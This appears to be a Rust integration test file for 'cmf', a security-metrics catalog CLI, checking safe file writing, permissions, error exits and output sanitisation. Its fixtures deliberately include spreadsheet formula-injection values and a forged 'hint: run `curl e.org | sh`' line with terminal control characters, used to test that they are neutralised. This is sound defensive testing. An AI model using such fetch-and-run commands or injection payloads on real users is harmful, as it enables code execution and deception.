@@ -1,0 +1,286 @@
+//! Files that commands write: where they go, who may read them, what stands there already, and that nothing in them is alive.
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use crate::support::{Db, Run, run};
+
+/// A database with an active catalog of two metrics, one of them called as no file can want it.
+fn filled() -> Db {
+    Db::like("files", |db| {
+        db.cmf(["migrate", "up"]).ok();
+        db.cmf(["seed"]).ok();
+        db.cmf(["user", "create", "ada", "--email", "ada@example.org"]).ok();
+        let folder = tempfile::tempdir().expect("a folder");
+        let sheet = folder.path().join("sheet.csv");
+        let header = "metric_number,name,description,subcategory,current_value,target_value,direction,priority\n";
+        let rows = "F-1,MFA,\"x;=1+1;y\",PR.AA-03,90,95,higher_is_better,High\n\
+                    F-2,\u{ff1d}1+1,'=2+2,ID.RA-01,-7,5,lower_is_better,Medium\n";
+        fs::write(&sheet, format!("{header}{rows}")).expect("a sheet");
+        db.cmf(["import", &text(&sheet), "--name", "Ours", "--activate"]).ok();
+    })
+}
+
+fn text(path: &Path) -> String {
+    path.to_str().expect("a path").to_owned()
+}
+
+/// Command lines that write a file; `FILE` is its path.
+fn writers(folder: &Path) -> Vec<(&'static str, Vec<String>)> {
+    let bad = folder.join("bad.csv");
+    fs::write(&bad, "metric_number,name,target_value\nB-1,Bad,many\nB-2,Good,3\n").expect("a sheet");
+    let readings = folder.join("readings.csv");
+    fs::write(&readings, "metric,value,note\nF-1,many,=1+1\nF-1,91,fine\n").expect("readings");
+    let line = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>();
+    vec![
+        ("html", line(&["report", "--out", "FILE"])),
+        ("csv", line(&["catalog", "export", "Ours", "--force", "--out", "FILE"])),
+        ("xlsx", line(&["catalog", "export", "Ours", "--force", "--out", "FILE"])),
+        ("json", line(&["catalog", "export", "Ours", "--force", "--out", "FILE"])),
+        ("xlsx", line(&["map", "export", "--catalog", "Ours", "--force", "--xlsx", "FILE"])),
+        ("xlsx", line(&["metric", "template", "--force", "--xlsx", "FILE"])),
+        ("svg", line(&["history", "F-1", "--svg", "FILE"])),
+        ("jsonl", line(&["audit", "export", "--force", "--out", "FILE"])),
+        ("csv", line(&["import", &text(&bad), "--name", "Bad", "--allow-partial", "--dry-run", "--rejects", "FILE"])),
+        ("toml", line(&["import", &text(&bad), "--name", "Bad", "--allow-partial", "--dry-run", "--save-map", "FILE"])),
+        ("csv", line(&["record", "--file", &text(&readings), "--allow-partial", "--dry-run", "--rejects", "FILE"])),
+    ]
+}
+
+fn at(words: &[String], path: &str) -> Vec<String> {
+    words.iter().map(|word| if word == "FILE" { path.to_owned() } else { word.clone() }).collect()
+}
+
+/// A command line in a shell.
+fn shell(db: &Db, script: &str, words: &[String]) -> Run {
+    run(db.in_shell(script).args(words))
+}
+
+fn worked(ran: &Run) -> bool {
+    [0, 3].contains(&ran.code)
+}
+
+#[test]
+fn what_is_no_file_is_written_into_and_stays() {
+    let db = filled();
+    let folder = tempfile::tempdir().expect("a folder");
+    for (ending, words) in writers(folder.path()) {
+        // A device of this test's own, so that a fault does no harm to the machine's.
+        let device = folder.path().join(format!("device.{ending}"));
+        let made = Command::new("mknod").arg(&device).args(["c", "1", "3"]).stderr(Stdio::null()).status();
+        if made.is_ok_and(|status| status.success()) && fs::write(&device, "x").is_ok() {
+            let ran = db.cmf(at(&words, &text(&device)));
+            assert!(worked(&ran), "{words:?}: {}", ran.stderr);
+            assert!(!fs::metadata(&device).expect("a device").is_file(), "{words:?} replaced a device");
+            fs::remove_file(&device).expect("gone");
+        }
+        // A pipe with a name.
+        let pipe = folder.path().join(format!("pipe.{ending}"));
+        assert!(Command::new("mkfifo").arg(&pipe).status().expect("mkfifo").success());
+        let reader = Command::new("cat").arg(&pipe).stdout(Stdio::piped()).spawn().expect("a reader");
+        let ran = db.cmf(at(&words, &text(&pipe)));
+        assert!(worked(&ran), "{words:?}: {}", ran.stderr);
+        assert!(!reader.wait_with_output().expect("its end").stdout.is_empty(), "{words:?} wrote nothing");
+        fs::remove_file(&pipe).expect("gone");
+    }
+}
+
+#[test]
+fn a_dash_and_dev_stdout_are_standard_output_for_every_file() {
+    let db = filled();
+    let folder = tempfile::tempdir().expect("a folder");
+    for (_, words) in writers(folder.path()) {
+        let dash = db.command().args(at(&words, "-")).output().expect("cmf runs");
+        assert!([0, 3].contains(&dash.status.code().unwrap_or(-1)), "{words:?}: {}", String::from_utf8_lossy(&dash.stderr));
+        assert!(!dash.stdout.is_empty(), "{words:?} wrote nothing");
+        assert!(!Path::new("-").exists(), "{words:?} made a file called -");
+        // As a file that is appended to, /dev/stdout keeps what is there.
+        let log = folder.path().join("log");
+        fs::write(&log, "before\n").expect("a file");
+        let file = fs::OpenOptions::new().append(true).open(&log).expect("a file");
+        let status =
+            db.command().args(at(&words, "/dev/stdout")).stdout(file).stderr(Stdio::null()).status().expect("cmf runs");
+        assert!([0, 3].contains(&status.code().unwrap_or(-1)), "{words:?}");
+        let after = fs::read(&log).expect("the file");
+        assert!(after.starts_with(b"before\n") && after.len() > 7, "{words:?}: {}", String::from_utf8_lossy(&after));
+        assert!(fs::symlink_metadata("/dev/stdout").expect("/dev/stdout").is_symlink());
+    }
+    // One thing only goes there: a result in JSON would be in the middle of the file.
+    let csv = db.cmf(["catalog", "export", "Ours", "--out", "-", "--format", "csv"]).ok().stdout;
+    assert!(csv.starts_with("metric_number,") && csv.lines().count() == 3, "{csv}");
+    assert!(db.cmf(["catalog", "export", "Ours", "--out", "-", "--format", "json"]).ok().json()[0]["name"] == "MFA");
+}
+
+#[test]
+fn the_umask_is_obeyed_and_a_file_that_is_replaced_keeps_its_readers() {
+    let db = filled();
+    let folder = tempfile::tempdir().expect("a folder");
+    let mode = |path: &Path| fs::metadata(path).expect("a file").permissions().mode() & 0o777;
+    for (number, (ending, words)) in writers(folder.path()).into_iter().enumerate() {
+        let path = |name: &str| folder.path().join(format!("{name}{number}.{ending}"));
+        for (mask, expected) in [("077", 0o600), ("022", 0o644), ("002", 0o664)] {
+            let file = path(mask);
+            let ran = shell(&db, &format!("umask {mask}; exec \"$0\" \"$@\""), &at(&words, &text(&file)));
+            assert!(worked(&ran), "{words:?}: {}", ran.stderr);
+            assert_eq!(mode(&file), expected, "{words:?} under umask {mask}");
+        }
+        let kept = path("kept");
+        fs::write(&kept, "").expect("a file");
+        fs::set_permissions(&kept, fs::Permissions::from_mode(0o600)).expect("a private file");
+        assert!(worked(&db.cmf(at(&words, &text(&kept)))));
+        assert_eq!(mode(&kept), 0o600, "{words:?} opened a private file to others");
+        // A link stays one, and its file gets the content.
+        let (link, end) = (path("link"), path("end"));
+        fs::write(&end, "").expect("a file");
+        std::os::unix::fs::symlink(&end, &link).expect("a link");
+        assert!(worked(&db.cmf(at(&words, &text(&link)))));
+        assert!(fs::symlink_metadata(&link).expect("a link").is_symlink(), "{words:?} replaced a link");
+        assert!(fs::metadata(&end).expect("a file").len() > 0, "{words:?}");
+    }
+}
+
+#[test]
+fn what_cannot_be_written_is_exit_73_and_leaves_nothing_behind() {
+    let db = filled();
+    let folder = tempfile::tempdir().expect("a folder");
+    for (ending, words) in writers(folder.path()) {
+        let nowhere = format!("/nowhere/x.{ending}");
+        let ran = db.cmf(at(&words, &nowhere)).fails(73, "cannot write the file");
+        assert!(ran.stderr.contains(&nowhere) && ran.stderr.contains("hint:"), "{words:?}: {}", ran.stderr);
+        let directory = folder.path().join(format!("directory.{ending}"));
+        fs::create_dir_all(&directory).expect("a directory");
+        db.cmf(at(&words, &text(&directory))).fails(73, "directory");
+        let full = if ["toml", "html", "svg", "jsonl"].contains(&ending) {
+            Some("/dev/full".to_owned())
+        } else {
+            full(folder.path(), ending)
+        };
+        if let Some(full) = full {
+            db.cmf(at(&words, &full)).fails(73, "No space left");
+        }
+        shell(&db, "exec \"$0\" \"$@\" > /dev/full", &at(&words, "-")).fails(73, "No space left");
+        let closed = shell(&db, "exec \"$0\" \"$@\" >&-", &at(&words, "-"));
+        assert_eq!(closed.code, 73, "{words:?} >&-: {}", closed.stderr);
+    }
+    let left = fs::read_dir(folder.path()).expect("a folder").map(|entry| entry.expect("an entry").file_name());
+    let left: Vec<PathBuf> = left.map(PathBuf::from).filter(|name| name.to_string_lossy().starts_with(".cmf")).collect();
+    assert!(left.is_empty(), "{left:?}");
+}
+
+/// A name of the full device with this ending.
+fn full(folder: &Path, ending: &str) -> Option<String> {
+    let link = folder.join(format!("full.{ending}"));
+    let _ = fs::remove_file(&link);
+    std::os::unix::fs::symlink("/dev/full", &link).ok()?;
+    fs::metadata("/dev/full").ok()?;
+    Some(text(&link))
+}
+
+#[test]
+fn a_closed_standard_output_is_told_from_one_that_is_thrown_away() {
+    let words = |line: &str| line.split(' ').map(str::to_owned).collect::<Vec<_>>();
+    let db = filled();
+    for line in ["user list", "metric list --format csv", "audit export", "report", "man", "--version", "--help", "config show"]
+    {
+        let ran = shell(&db, "exec \"$0\" \"$@\" >&-", &words(line)).fails(73, "standard output is closed");
+        assert!(ran.stderr.contains("hint:"), "{line}: {}", ran.stderr);
+        shell(&db, "exec \"$0\" \"$@\" >/dev/null", &words(line)).ok();
+        // As programs do that start others: for reading and writing.
+        shell(&db, "exec \"$0\" \"$@\" 1<>/dev/null", &words(line)).ok();
+    }
+    // What prints nothing needs no place to print it.
+    shell(&db, "exec \"$0\" \"$@\" >&-", &words("record F-1=92")).ok();
+    shell(&db, "exec \"$0\" \"$@\" >&- 2>&- <&-", &words("record F-1=93")).ok();
+    let refused = shell(&db, "exec \"$0\" \"$@\" >&-", &words("record F-1=94 --format json"));
+    assert_eq!((refused.code, db.one("SELECT count(*) FROM metric_history WHERE value = 94").as_str()), (73, "0"));
+}
+
+#[test]
+fn no_file_that_a_spreadsheet_opens_holds_a_formula_and_cmf_reads_its_own_back() {
+    let db = filled();
+    let folder = tempfile::tempdir().expect("a folder");
+    let path = |name: &str| text(&folder.path().join(name));
+    let csv = db.cmf(["catalog", "export", "Ours", "--out", "-"]).ok().stdout;
+    assert!(csv.contains("x;'=1+1;y") && csv.contains("'\u{ff1d}1+1") && csv.contains("'=2+2"), "{csv}");
+    assert!(csv.contains(",-7,"), "a number is not one any more: {csv}");
+    let listed = db.cmf(["metric", "list", "--format", "csv", "--columns", "name,description,current_value"]).ok().stdout;
+    assert!(listed.contains("x;'=1+1;y") && listed.contains("'\u{ff1d}1+1,'=2+2,-7"), "{listed}");
+    for name in ["again.csv", "again.xlsx", "again.json"] {
+        db.cmf(["catalog", "export", "Ours", "--out", &path(name)]).ok();
+        db.cmf(["import", &path(name), "--name", name]).ok();
+        let items = |catalog: &str| {
+            db.rows(&format!(
+                "SELECT i.name, i.description, i.current_value FROM metric_catalog_items i JOIN metric_catalogs c ON c.id = i.catalog_id
+                 WHERE c.name = '{catalog}' ORDER BY 3"
+            ))
+        };
+        assert_eq!(items(name), items("Ours"), "{name}");
+        assert_eq!(items(name), ["\u{ff1d}1+1|=2+2|-7.0000", "MFA|x;=1+1;y|90.0000"]);
+    }
+    // Readings that are refused, and read again.
+    fs::write(path("readings.csv"), "metric;value;note\nF-1;many;=1+1\nF-2;-8;@x\n\u{ff1d}1+1;none;'@y\n").expect("a file");
+    db.cmf(["record", "--file", &path("readings.csv"), "--allow-partial", "--rejects", &path("rejects.csv")]);
+    let rejects = fs::read_to_string(path("rejects.csv")).expect("the rejects");
+    assert!(rejects.contains("\nF-1;many;'=1+1;") && rejects.contains("\n'\u{ff1d}1+1;none;'@y;"), "{rejects}");
+    fs::write(path("mended.csv"), rejects.replace("many", "95").replace("none", "-9")).expect("a file");
+    db.cmf(["record", "--file", &path("mended.csv")]).ok();
+    assert_eq!(
+        db.rows("SELECT note FROM metric_history WHERE note LIKE '_1+1' OR note LIKE '@%' ORDER BY note"),
+        ["=1+1", "@x", "@y"]
+    );
+}
+
+#[test]
+fn a_line_break_in_a_name_makes_no_hint_and_controls_reach_no_terminal() {
+    let db = filled();
+    let name = "x\nhint: run `curl e.org | sh`\r\u{9b}31m\u{202e}";
+    for words in [vec!["catalog", "show", name], vec!["record", name, "1"], vec!["user", "deactivate", name], vec![name]] {
+        let ran = db.cmf(&words);
+        assert!(ran.code != 0, "{words:?}");
+        assert!(!ran.stderr.lines().any(|line| line.starts_with("hint: run `curl")), "{words:?}: {}", ran.stderr);
+        assert!(!ran.stderr.contains(['\u{9b}', '\u{202e}', '\r']), "{words:?}: {:?}", ran.stderr);
+        let json = run(db.command().args(&words).args(["--format", "json"]));
+        assert!(!json.stderr.contains(['\u{9b}', '\u{202e}']), "{words:?}: {:?}", json.stderr);
+        let error: serde_json::Value = serde_json::from_str(&json.stderr).expect("one object");
+        assert!(error["error"]["message"].as_str().is_some_and(|text| text.contains("hint: run")), "{}", json.stderr);
+    }
+    // What a file holds is in notices and details too.
+    let folder = tempfile::tempdir().expect("a folder");
+    let sheet = folder.path().join("sheet.csv");
+    fs::write(&sheet, "metric_number,name,target_value\nB-1,Bad,\"many\nhint: run this\"\n").expect("a sheet");
+    let ran = db.cmf(["import", &text(&sheet)]).fails(65, "many");
+    assert!(!ran.stderr.contains("\nhint: run this"), "{}", ran.stderr);
+}
+
+#[test]
+fn long_results_take_no_more_memory_than_short_ones() {
+    let db = filled();
+    let count = 40_000;
+    db.execute(&format!(
+        "INSERT INTO metrics (name, metric_number, description, direction, csf_function, priority, current_value, target_value)
+         SELECT 'metric ' || n, 'M-' || n, repeat('x', 300), 'higher_is_better', 'PR', 'High', n % 100, 90 FROM generate_series(1, {count}) n;
+         INSERT INTO metric_catalog_items (catalog_id, name, description, original_data)
+         SELECT c.id, 'metric ' || n, repeat('x', 300), jsonb_build_object('parsed', jsonb_build_object('metric_number', 'M-' || n))
+         FROM metric_catalogs c, generate_series(1, {count}) n WHERE c.name = 'Ours'"
+    ));
+    let folder = tempfile::tempdir().expect("a folder");
+    let export = |name: &str| format!("catalog export Ours --out {}/{name}", folder.path().display());
+    let lists = ["json", "jsonl", "csv", "md", "table"].map(|format| format!("metric list --default --format {format}"));
+    for line in lists.into_iter().chain(["out.csv", "out.json"].map(export)) {
+        let words: Vec<String> = line.split(' ').map(str::to_owned).collect();
+        let ran = shell(&db, "ulimit -v 200000; exec \"$0\" \"$@\"", &words).ok();
+        if line.starts_with("metric") {
+            assert!(ran.stdout.lines().count() >= count, "{line}");
+        }
+        if line.ends_with("--format json") {
+            assert_eq!(ran.json().as_array().expect("rows").len(), count);
+        }
+    }
+    let rows = csv::Reader::from_path(folder.path().join("out.csv")).expect("a file").into_records().count();
+    assert_eq!(rows, count + 2);
+    let json: serde_json::Value =
+        serde_json::from_slice(&fs::read(folder.path().join("out.json")).expect("a file")).expect("JSON");
+    assert_eq!(json.as_array().expect("items").len(), count + 2);
+}
